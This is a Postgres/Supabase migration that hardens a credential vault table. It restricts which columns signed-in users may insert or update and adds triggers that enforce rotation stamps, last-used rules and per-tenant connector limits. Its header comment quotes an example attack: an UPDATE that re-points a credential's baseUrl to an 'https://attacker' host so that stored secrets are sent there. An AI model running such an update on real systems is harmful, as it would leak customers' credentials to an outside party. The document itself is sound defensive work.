-- What a signed-in person may write in public.credentials (lib/credentials/store.ts, use.ts;
-- docs/security-model.md "Keys and the credential vault").
--
-- Why: `authenticated` held INSERT and UPDATE on every column (20261130000500), and the update
-- policy asks only for an admin role. Through SQL as a customer's admin (a Supabase Data API) one
-- could re-point a credential the MSSP entered: `update credentials set config = '{"baseUrl":
-- "https://attacker"}'` leaves the seal intact (it binds tenant, row and key version, not the
-- settings), and the next collector pull or "Test connection" sends the secret there. The same
-- person could write rotated_at / rotated_by / created_by / expires_at / last_used_at, which the
-- credentials pages, the expiry views and the feed health read, and insert credentials past the
-- tenant's limits.connectors or of a kind its MSSP switched off (integrations.<kind>), both of
-- which only lib/credentials/store.ts checked.
--
-- Now, for `authenticated` (the service role, which re-seals in a DEK rotation and restores
-- archives, and the owner are not held to it):
--   columns  INSERT only what createCredential writes (tenant_id, id, connector, name, config,
--            sealed, key_version, secret_hint, expires_at, created_by); UPDATE only what
--            replaceSecret and the use path write (sealed, key_version, secret_hint, expires_at,
--            rotated_at, rotated_by, last_used_at). A credential's connector, name and settings
--            never change once it exists (the app has no edit: delete it and add it again, with
--            its secret), so no UPDATE of them is granted at all.
--   trigger  keyring.guard_member_credential_write: created_by is the caller (auth.uid());
--            a new secret (sealed changes) stamps rotated_at = now(), rotated_by = the caller,
--            whatever the statement said; without a new secret, key_version, secret_hint,
--            expires_at, rotated_at and rotated_by stay as they are (42501, hint
--            credential_secret_unchanged); last_used_at only moves to now(), as opening the
--            credential sets it (42501, hint credential_last_used). api.touch_opened_credentials
--            (security definer: it runs as its owner) is not held to this and writes now() anyway.
--   trigger  settings.refuse_connector_by_configuration, on insert: under the same advisory lock
--            as lib/settings/enforce.ts lockTenantLimit("limits.connectors", tenant), a kind whose
--            integrations.<kind> is off is refused (42501, hint integration_disabled) and so is a
--            credential past limits.connectors (54000, hint connector_limit). The values are the
--            tenant's effective ones (settings.value_of); a value never set, or not valid for the
--            setting, is the registry's default (lib/settings/registry.ts: on, 200), as
--            lib/settings/resolve.ts reads it. Security definer: the caller may not read its
--            ancestors' settings (the MSSP's row decides).

revoke insert, update on public.credentials from authenticated;
grant insert (tenant_id, id, connector, name, config, sealed, key_version, secret_hint, expires_at, created_by)
  on public.credentials to authenticated;
grant update (sealed, key_version, secret_hint, expires_at, rotated_at, rotated_by, last_used_at)
  on public.credentials to authenticated;

create function keyring.guard_member_credential_write() returns trigger
  language plpgsql
  set search_path = pg_catalog, pg_temp
  as $$
begin
  if current_user::text <> 'authenticated' then
    return new;
  end if;
  if tg_op = 'INSERT' then
    new.created_by := auth.uid();
    return new;
  end if;
  if new.sealed is distinct from old.sealed then
    new.rotated_at := pg_catalog.now();
    new.rotated_by := auth.uid();
  elsif (new.key_version, new.secret_hint, new.expires_at, new.rotated_at, new.rotated_by)
        is distinct from (old.key_version, old.secret_hint, old.expires_at, old.rotated_at, old.rotated_by) then
    raise exception 'a credential''s key version, hint, expiry and rotation change only with a new secret'
      using errcode = '42501', hint = 'credential_secret_unchanged';
  end if;
  if new.last_used_at is distinct from old.last_used_at and new.last_used_at is distinct from pg_catalog.now() then
    raise exception 'a credential is marked used by opening it (last_used_at = now()), not set by hand'
      using errcode = '42501', hint = 'credential_last_used';
  end if;
  return new;
end
$$;
revoke all on function keyring.guard_member_credential_write() from public, anon, authenticated, service_role, portal_app;
create trigger credentials_member_guard
  before insert or update on public.credentials
  for each row execute function keyring.guard_member_credential_write();

create function settings.refuse_connector_by_configuration() returns trigger
  language plpgsql security definer
  set search_path = pg_catalog, pg_temp
  as $$
declare
  -- lib/settings/registry.ts: limits.connectors (integer 0 to 10000, default 200) and
  -- integrations.<kind> (boolean, default on). tests/credentials-member-writes.test.ts pins both.
  default_limit constant integer := 200;
  enabled jsonb;
  configured jsonb;
  max_connectors integer := default_limit;
begin
  if current_setting('role') <> 'authenticated' then
    return new;
  end if;
  perform pg_catalog.pg_advisory_xact_lock(pg_catalog.hashtext('limits.connectors'), pg_catalog.hashtext(new.tenant_id::text));
  enabled := settings.value_of(new.tenant_id, 'integrations.' || new.connector);
  if enabled = 'false'::jsonb then
    raise exception '% credentials are disabled by configuration (integrations.%)', new.connector, new.connector
      using errcode = '42501', hint = 'integration_disabled';
  end if;
  configured := settings.value_of(new.tenant_id, 'limits.connectors');
  if pg_catalog.jsonb_typeof(configured) = 'number'
     and (configured::text)::numeric between 0 and 10000
     and (configured::text)::numeric = pg_catalog.trunc((configured::text)::numeric) then
    max_connectors := (configured::text)::numeric::integer;
  end if;
  if (select pg_catalog.count(*) from public.credentials c where c.tenant_id = new.tenant_id) >= max_connectors then
    raise exception 'this tenant may hold at most % connector credentials (limits.connectors)', max_connectors
      using errcode = '54000', hint = 'connector_limit';
  end if;
  return new;
end
$$;
revoke all on function settings.refuse_connector_by_configuration() from public, anon, authenticated, service_role, portal_app;
create trigger credentials_by_configuration
  before insert on public.credentials
  for each row execute function settings.refuse_connector_by_configuration();
